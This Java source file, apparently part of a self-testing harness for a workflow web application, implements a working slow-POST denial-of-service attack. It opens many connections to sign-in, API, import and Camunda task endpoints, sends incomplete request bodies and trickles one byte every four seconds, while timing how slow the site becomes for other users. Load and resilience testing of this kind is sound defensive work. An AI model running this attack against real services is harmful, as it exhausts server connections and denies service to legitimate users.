package be.ptr.hostile;

import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;

/**
 * Forms and JSON that never end, of somebody who is not signed in: a byte now and then.
 *
 * @param longestClick of somebody else, while it lasts
 */
public record SlowBodies(int connections, Duration length, Duration longestClick) implements Attack {
    private static final Duration PACE = Duration.ofSeconds(4);
    private static final String FORM = "application/x-www-form-urlencoded";
    private static final String LONG = "Content-Length: 60000";
    private static final String[] REQUESTS = {
        request("/sign-in", FORM, LONG, "username="),
        request("/api/runs/DR1/steps/CO-1/start", "application/json", LONG, "{"),
        request("/etape/x", FORM, "Transfer-Encoding: chunked", "EA60\r\nx"),
        request("/import", "multipart/form-data; boundary=b", "Content-Length: 20000000", "--b\r\n"),
        request("/camunda/api/engine/engine/default/task", "application/json", LONG, "{")
    };

    private static String request(String path, String type, String length, String start) {
        String lines = String.join(
                "\r\n", "POST " + path + " HTTP/1.1", "Host: localhost", "Content-Type: " + type, length, "", "");
        return lines + start;
    }

    @Override
    public Finding against(Victim victim) throws InterruptedException {
        return new Siege(victim, length, longestClick)
                .hold(
                        connections + " bodies, a byte each " + PACE.toSeconds() + " s for " + length.toSeconds()
                                + " s",
                        connections,
                        number -> open(victim, REQUESTS[number % REQUESTS.length]),
                        PACE,
                        connection -> connection.getOutputStream().write('x'));
    }

    private static Socket open(Victim victim, String start) throws IOException {
        Socket connection = victim.connect(1 << 12);
        connection.getOutputStream().write(start.getBytes(StandardCharsets.US_ASCII));
        return connection;
    }
}
